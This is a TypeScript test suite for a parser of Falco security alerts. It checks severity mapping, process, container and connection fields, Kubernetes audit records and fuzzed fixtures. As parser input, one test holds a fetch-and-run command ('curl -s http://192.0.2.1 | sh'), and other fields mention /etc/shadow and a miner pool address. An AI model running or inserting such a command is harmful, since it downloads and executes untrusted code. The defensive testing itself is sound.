// Falco's alerts: what each field means, what is no alert, and the recordings.
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { EventInput } from '../protocol/event.ts'
import { falco } from './falco.ts'
import { describeFixtures, fixtureBytes, fixtureFiles, fixtureText } from './fixtures-for-test.ts'
import { readAll } from './read-all-for-test.ts'

const time = '2026-11-21T02:26:49.123456789Z'
const timeAtMs = Date.UTC(2026, 10, 21, 2, 26, 49) + 123.457
const record = (fields: object = {}, change: object = {}): string =>
  JSON.stringify({
    hostname: 'vigil-1',
    output: '02:26:49.123456789: Warning A miner was started (command=vigil-tool)',
    priority: 'Warning',
    rule: 'Miner started',
    source: 'syscall',
    tags: ['container', 'T1496', 'mitre_impact', 'maturity_stable'],
    time,
    output_fields: { 'evt.time': 1_795_229_209_123_456_800, ...fields },
    ...change,
  })

type Alert = Extract<EventInput, { kind: 'alert.raised' }>

function only(text: string, context: Parameters<typeof readAll>[2] = {}): Alert {
  const read = readAll(falco, text, context)
  expect(read.refusals).toEqual([])
  const [event] = read.made
  if (read.made.length !== 1 || event?.kind !== 'alert.raised') throw new Error('not one alert')
  return event
}
const argvOf = (fields: object) => only(record(fields)).data.process?.argv

describe('Falco', () => {
  it('makes an alert of a rule that fired, at its own time on its own host', () => {
    expect(only(record())).toEqual({
      v: 1,
      kind: 'alert.raised',
      id: expect.any(String),
      atMs: timeAtMs,
      host: 'vigil-1',
      data: {
        basis: 'host',
        title: 'Miner started',
        category: 'syscall',
        severity: 'medium',
        action: 'unknown',
        message: '02:26:49.123456789: Warning A miner was started (command=vigil-tool)',
        techniques: ['T1496', 'mitre_impact'],
      },
    })
    expect(only(record({}, { hostname: undefined }), { host: undefined }).host).toBeUndefined()
    expect(only(record({ 'evt.hostname': 'inner' }, { hostname: undefined })).host).toBe('inner')
  })

  it('grades severity by priority, in any case and as a number', () => {
    const severityOf = (priority: unknown) => only(record({}, { priority })).data.severity
    expect(['Emergency', 'Alert', 'CRITICAL', 'error', 'Warning', 'Notice'].map(severityOf)).toEqual([
      'critical',
      'critical',
      'critical',
      'high',
      'medium',
      'low',
    ])
    expect(['Informational', 'Info', 'Debug', 3, 7].map(severityOf)).toEqual(['info', 'info', 'info', 'high', 'info'])
    expect([undefined, 'Loud', 99, -1, {}].map(severityOf)).toEqual(Array(5).fill('medium'))
  })

  it('reads the process, its user, its container and its pod', () => {
    const fields = {
      'proc.pid': 4242,
      'proc.ppid': 4200,
      'proc.pid.ts': 1_795_229_208_000_000_000,
      'proc.name': 'vigil-tool',
      'proc.exepath': '/usr/bin/vigil-tool',
      'proc.exe': 'vigil-tool',
      'proc.cmdline': 'vigil-tool --pool 203.0.113.9',
      'proc.cwd': '/srv/',
      'user.name': 'agent',
      'user.uid': 1000,
      'user.loginuid': -1,
      'thread.cgroup.cpu': '/',
      'thread.cgroup.memory': '/kubepods/pod1/c1',
      'container.id': 'abc123',
      'container.name': 'trainer',
      'container.image.repository': 'registry.example/trainer',
      'container.image.tag': '1',
      'k8s.ns.name': 'agents',
      'k8s.pod.name': 'trainer-0',
      'k8s.pod.label[app]': 'trainer',
      'k8s.pod.labels': 'tier:gpu, __proto__:x',
    }
    expect(only(record(fields)).data.process).toEqual({
      pid: 4242,
      ppid: 4200,
      startedAtMs: 1_795_229_208_000,
      comm: 'vigil-tool',
      exe: '/usr/bin/vigil-tool',
      argv: ['vigil-tool', '--pool', '203.0.113.9'],
      cwd: '/srv/',
      uid: 1000,
      user: 'agent',
      cgroup: '/kubepods/pod1/c1',
      workload: {
        container: 'trainer',
        image: 'registry.example/trainer:1',
        pod: 'trainer-0',
        namespace: 'agents',
        labels: { app: 'trainer', tier: 'gpu' },
      },
    })
  })

  it('takes null, <NA>, unset logins and the host as a container for no value', () => {
    const fields = {
      'proc.name': null,
      'proc.cmdline': '<NA>',
      'user.uid': 4_294_967_295,
      'user.loginuid': 4_294_967_295,
      'container.id': 'host',
      'container.name': 'host',
      'k8s.pod.name': null,
      'proc.pid': 'x',
    }
    expect(only(record(fields)).data.process).toBeUndefined()
  })

  it('cuts a command line at blanks, and keeps whole what follows an interpreter’s -c', () => {
    expect(argvOf({ 'proc.cmdline': 'bash -c curl -s http://192.0.2.1 | sh' })).toEqual([
      'bash',
      '-c',
      'curl -s http://192.0.2.1 | sh',
    ])
    expect(argvOf({ 'proc.cmdline': 'bash -e -lc make  all', 'proc.exe': '/bin/bash' })).toEqual([
      '/bin/bash',
      '-e',
      '-lc',
      'make  all',
    ])
    expect(argvOf({ 'proc.cmdline': 'sh run.sh -c x y' })).toEqual(['sh', 'run.sh', '-c', 'x', 'y'])
    expect(argvOf({ 'proc.cmdline': 'python3.12 -c print(1) ' })).toEqual(['python3.12', '-c', 'print(1) '])
    expect(argvOf({ 'proc.cmdline': 'tar -c a b' })).toEqual(['tar', '-c', 'a', 'b'])
    expect(argvOf({ 'proc.cmdline': 'sh' })).toEqual(['sh'])
    expect(argvOf({ 'proc.name': 'my tool', 'proc.cmdline': 'my tool -v' })).toEqual(['my tool', '-v'])
    expect(argvOf({ 'proc.exe': '/bin/ls', 'proc.args': '-l /tmp' })).toEqual(['/bin/ls', '-l', '/tmp'])
    expect(argvOf({ 'proc.name': 'ls' })).toBeUndefined()
    const many = argvOf({ 'proc.cmdline': `x ${'y '.repeat(5_000)}end` })
    expect(many?.length).toBe(1_024)
    expect(many?.join(' ')).toBe(`x ${'y '.repeat(5_000)}end`)
  })

  it('reads the connection from fd.name, client first, also for IPv6', () => {
    const trafficOf = (fields: object) => only(record(fields)).data.traffic
    expect(trafficOf({ 'fd.name': '192.0.2.5:41000->198.51.100.7:443', 'fd.l4proto': 'tcp' })).toEqual({
      protocol: 'tcp',
      source: { address: '192.0.2.5', port: 41000 },
      destination: { address: '198.51.100.7', port: 443 },
    })
    expect(trafficOf({ 'fd.name': '2001:db8::1:41000->2001:db8::2:443' })).toEqual({
      protocol: 'unknown',
      source: { address: '2001:db8::1', port: 41000 },
      destination: { address: '2001:db8::2', port: 443 },
    })
    for (const name of ['/etc/shadow', '192.0.2.5:22', 'a->b', '->', '192.0.2.5:1->', '<NA>']) {
      expect(trafficOf({ 'fd.name': name })).toBeUndefined()
    }
  })

  it('reads the connection from single fields: client and server, or local and remote', () => {
    const ends = { 'fd.lip': '192.0.2.5', 'fd.lport': 22, 'fd.rip': '198.51.100.7', 'fd.rport': '5000' }
    const trafficOf = (fields: object) => only(record(fields)).data.traffic
    const server = { address: '192.0.2.5', port: 22 }
    expect(trafficOf(ends)).toMatchObject({ source: server, destination: { port: 5000 } })
    expect(trafficOf({ ...ends, 'evt.type': 'accept4' })).toMatchObject({ destination: server })
    expect(trafficOf({ ...ends, 'fd.is_server': true })).toMatchObject({ destination: server })
    expect(
      trafficOf({ 'fd.cip': '192.0.2.5', 'fd.sip': '198.51.100.7', 'fd.sport': 53, 'fd.sip.name': 'pool.example' }),
    ).toEqual({
      protocol: 'unknown',
      source: { address: '192.0.2.5' },
      destination: { address: '198.51.100.7', port: 53 },
      names: ['pool.example'],
    })
    expect(trafficOf({ 'fd.sip': '198.51.100.7', 'fd.sport': 53 })).toBeUndefined()
  })

  it('reads Kubernetes audit alerts: the pod meant, who asked, what was decided, and not the host of Falco', () => {
    const fields = {
      'ka.user.name': 'agent-admin',
      'ka.target.name': 'trainer-0',
      'ka.target.namespace': 'agents',
      'ka.target.resource': 'pods',
      'ka.response.code': '403',
    }
    const alert = only(record(fields, { source: 'k8s_audit' }))
    expect(alert.host).toBeUndefined()
    expect(alert.data).toMatchObject({
      category: 'k8s_audit',
      action: 'blocked',
      process: { user: 'agent-admin', workload: { pod: 'trainer-0', namespace: 'agents' } },
    })
  })

  it('reads records of old versions, of gRPC clients, and behind the prefix of a log collector', () => {
    const old = JSON.stringify({
      output: 'o',
      priority: 'Error',
      rule: 'Old',
      time,
      output_fields: { 'proc.name': 'x' },
    })
    expect(only(old)).toMatchObject({ data: { title: 'Old', severity: 'high', process: { comm: 'x' } } })
    const client = JSON.stringify({ rule: 'G', priority: 'CRITICAL', time, outputFields: { 'proc.name': 'y' } })
    expect(only(client)).toMatchObject({ data: { severity: 'critical', process: { comm: 'y' } } })
    expect(only(`2026-11-21T02:26:50.1Z stdout F ${record()}`).data.title).toBe('Miner started')
    expect(only(`Nov 21 02:26:50 vigil-1 falco[7]: ${record()}`).data.title).toBe('Miner started')
  })

  it('skips what Falco says of itself', () => {
    const read = readAll(
      falco,
      [
        record({}, { rule: 'Falco internal: metrics snapshot', source: 'internal' }),
        record({}, { rule: 'Falco internal: syscall event drop', source: undefined }),
        'Sat Nov 21 02:26:40 2026: Falco version: 0.42.0 (x86_64)',
        '2026-11-21T02:26:40+0000: Loading rules from:',
        'Events detected: 3',
      ].join('\n'),
    )
    expect(read.events).toBe(0)
    expect(read.skipped).toMatchObject([
      { reason: 'telemetry of Falco about itself', count: 1 },
      { reason: 'Falco says that it lost system calls', count: 1 },
      { reason: 'line of Falco about itself', count: 3 },
    ])
  })

  it('refuses text output with what to do about it, and damaged records', () => {
    const read = readAll(
      falco,
      [
        '12:03:11.123456789: Warning Sensitive file opened (user=root)',
        '2026-11-21T02:26:49.123456789+0000: Notice A shell was spawned',
        record().slice(0, 200),
        '[]',
        '{}',
        `12:03:11.1: Notice Shell ${record()}`,
        `Nov 21 02:26:50 vigil-1 agent: falco: ${record()}`,
        '{"__proto__":{"rule":"x"},"time":"2026-11-21T00:00:00Z"}',
        record({}, { rule: {} }),
        record({}, { time: 1_795_229_209_123 }),
        record({}, { time: '1970-01-01T00:00:00Z' }),
        record({}, { time: undefined }),
      ].join('\n'),
    )
    expect(read.made).toEqual([])
    expect(read.refusals).toHaveLength(12)
    expect(read.refused[0]).toMatchObject({
      reason: 'text output of Falco has no fields: set json_output to true in falco.yaml',
      count: 3,
    })
  })

  it('loses bad fields and keeps the alert', () => {
    const bad = { tags: 'x', output: {}, output_fields: [], hostname: {}, source: 7 }
    expect(only(record({}, bad)).data).toMatchObject({ title: 'Miner started', severity: 'medium' })
    const fields = {
      'proc.pid': -1,
      'proc.cmdline': {},
      'fd.name': 7,
      'user.uid': [1],
      'fd.cip': 'x',
      ['__proto__']: 1,
    }
    expect(only(record(fields)).data.process).toBeUndefined()
  })

  it('gives the same record the same id in pieces of any size, and other records others', () => {
    const text = [record(), record({ 'proc.pid': 1 }), record({}, { priority: 'Error' })].join('\n')
    const whole = readAll(falco, text)
    expect(new Set(whole.made.map(({ id }) => id)).size).toBe(3)
    for (const bytes of [1, 7]) expect(readAll(falco, text, {}, bytes).made).toEqual(whole.made)
  })
})

describeFixtures('Falco recordings', () => {
  const files = fixtureFiles('falco')

  it.each(files)('%s: every record is told once, in pieces of any size, with the same ids', (path) => {
    const whole = readAll(falco, fixtureBytes(path))
    const lines = fixtureText(path)
      .split('\n')
      .filter((text) => text.trim() !== '')
    const refused = lines.filter((text) => text.includes('"time":"2021-04-13T20:58:00.746609046Z+2"')).length
    const skipped = lines.filter((text) => text.includes('"source":"internal"')).length
    expect(whole.records).toBe(lines.length)
    expect(whole.events).toBe(lines.length - refused - skipped)
    expect(whole.refusals).toHaveLength(refused)
    expect(new Set(whole.made.map(({ id }) => id)).size).toBe(whole.events)
    for (const bytes of [1, 7]) expect(readAll(falco, fixtureBytes(path), {}, bytes).made).toEqual(whole.made)
    expect(falco.looksLike(fixtureText(path).slice(0, 4096), path)).toBe(true)
  })

  it('tells the shell with its command, the file that was read, and the connections to the API server', () => {
    const generated = readAll(falco, fixtureBytes('falco/elastic_event_generator.jsonl')).made
    expect(generated).toMatchObject([
      { host: '97ade2b595f0', data: { severity: 'medium', techniques: ['T1555', 'mitre_credential_access'] } },
      { data: { severity: 'info', process: { user: 'daemon', uid: 2, exe: '/bin/busybox', argv: ['login'] } } },
      {
        atMs: Date.UTC(2024, 4, 7, 18, 54, 27) + 767.673,
        data: { severity: 'low', process: { comm: 'bash', exe: '/bin/bash', argv: ['bash', '-c', 'ls > /dev/null'] } },
      },
    ])
    const website = readAll(falco, fixtureBytes('falco/falco_website_alerts.jsonl')).made
    const traffic = website.flatMap((event) => (event.kind === 'alert.raised' ? (event.data.traffic ?? []) : []))
    expect(traffic).toMatchObject([
      { source: { address: '172.17.0.9', port: 43812 }, destination: { address: '10.96.0.1', port: 443 } },
      { source: { address: '192.168.43.223', port: 39526 }, destination: { address: '10.100.0.1', port: 443 } },
    ])
    expect(website.filter((event) => event.kind === 'alert.raised' && event.data.action === 'blocked')).toHaveLength(1)
  })

  it('takes no other recording for its own', () => {
    for (const path of fixtureFiles('.')) {
      if (path.startsWith('falco/')) continue
      const head = new TextDecoder().decode(fixtureBytes(path).subarray(0, 8192))
      expect(falco.looksLike(head, path), path).toBe(false)
    }
  })

  it('throws nothing and makes only events that fit, whatever is changed in real lines', () => {
    const real = files.flatMap((path) => fixtureText(path).split('\n')).filter((text) => text !== '')
    const values = ['null', '-1', '1e99', '"\\u0000"', '[]', '{"__proto__":{}}', '4194305', '""', '"a->b"']
    fc.assert(
      fc.property(
        fc.constantFrom(...real),
        fc.array(fc.tuple(fc.nat(3_000), fc.constantFrom(...values)), { maxLength: 4 }),
        (text, changes) => {
          let changed = text
          for (const [place, value] of changes) {
            const colon = changed.indexOf(':', place)
            const comma = changed.indexOf(',', colon)
            if (colon !== -1 && comma !== -1) changed = `${changed.slice(0, colon + 1)}${value}${changed.slice(comma)}`
          }
          const read = readAll(falco, changed)
          expect(read.records).toBe(1)
          for (const { reason } of read.refusals) expect(reason).not.toMatch(/does not fit|reader failed/)
        },
      ),
      { numRuns: 300 },
    )
  })
})
